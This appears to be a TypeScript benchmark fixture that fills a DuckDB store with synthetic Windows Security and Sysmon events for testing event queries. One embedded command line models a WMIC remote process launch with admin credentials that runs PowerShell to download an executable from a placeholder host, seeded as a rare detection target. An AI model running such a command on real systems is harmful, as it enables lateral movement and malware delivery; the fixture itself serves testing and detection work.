/**
 * A store of `count` generated Windows events for the query benchmark, built inside DuckDB:
 * Security process creations (a few of them WMIC remote executions), logons, and Sysmon
 * process and network events across a few hundred hosts.
 */
import { DuckDBEngine } from '../src/engine/duckdb/engine.js';
import { ensureLayout } from '../src/engine/duckdb/layout.js';
import { installViews } from '../src/schema/views/install.js';

const WMIC =
  `wmic /node:"10.20.1.' || (i % 200) || '" /user:"admin" /password:"x" process call create ` +
  `"powershell -NoProfile -Command Invoke-WebRequest -Uri http://example.net/p.exe"`;

/** Creates the store at `path` with `count` events. */
export async function buildKqlStore(path: string, count: number): Promise<void> {
  const engine = await DuckDBEngine.open({ path });
  try {
    await engine.execute(`SET TimeZone = 'UTC'`);
    await ensureLayout(engine);
    await engine.execute(`INSERT INTO events (_ItemId, _Batch, _Source, _Format, TimeCreated,
        Provider, Channel, EventID, Version, Computer, EventRecordID,
        SubjectUserSid, SubjectUserName, SubjectDomainName, SubjectLogonId,
        TargetUserName, TargetDomainName, LogonType, IpAddress,
        NewProcessId, NewProcessName, ProcessId, CommandLine, ParentProcessName,
        Image, ParentImage, User, DestinationIp, DestinationPort)
      SELECT uuid(), 1, 'bench', 'quarry',
        make_timestamp_ns(1796000000000000000 + i * 60000000000),
        CASE WHEN i % 4 < 2 THEN 'Microsoft-Windows-Security-Auditing'
             ELSE 'Microsoft-Windows-Sysmon' END,
        CASE WHEN i % 4 < 2 THEN 'Security' ELSE 'Microsoft-Windows-Sysmon/Operational' END,
        CASE i % 4 WHEN 0 THEN 4688 WHEN 1 THEN 4624 WHEN 2 THEN 1 ELSE 3 END,
        2, 'HOST' || (i % 300) || '.corp.example.com', i,
        'S-1-5-21-1-2-3-' || (1000 + i % 50), 'user' || (i % 50), 'CORP', '0x3e7',
        CASE WHEN i % 4 = 1 THEN 'user' || (i % 50) END, CASE WHEN i % 4 = 1 THEN 'CORP' END,
        CASE WHEN i % 4 = 1 THEN '3' END, CASE WHEN i % 4 = 1 THEN '10.20.0.' || (i % 250) END,
        '0x' || to_hex(i % 65536),
        CASE WHEN i % 4 = 0 AND i % 10007 = 0 THEN 'C:\\Windows\\System32\\wbem\\WMIC.exe'
             WHEN i % 4 = 0 THEN 'C:\\Windows\\System32\\svchost.exe' END,
        '0x2b0',
        CASE WHEN i % 4 = 0 AND i % 10007 = 0 THEN '${WMIC}'
             WHEN i % 4 = 0 THEN 'svchost.exe -k netsvcs -p ' || (i % 13) END,
        CASE WHEN i % 4 = 0 THEN 'C:\\Windows\\System32\\services.exe' END,
        CASE WHEN i % 4 >= 2 THEN 'C:\\Windows\\System32\\cmd.exe' END,
        CASE WHEN i % 4 = 2 THEN 'C:\\Windows\\explorer.exe' END,
        CASE WHEN i % 4 >= 2 THEN 'CORP\\user' || (i % 50) END,
        CASE WHEN i % 4 = 3 THEN '10.20.1.' || (i % 250) END,
        CASE WHEN i % 4 = 3 THEN '443' END
      FROM range(${count}) t(i)`);
    await installViews(engine);
    await engine.execute('CHECKPOINT');
  } finally {
    await engine.close();
  }
}
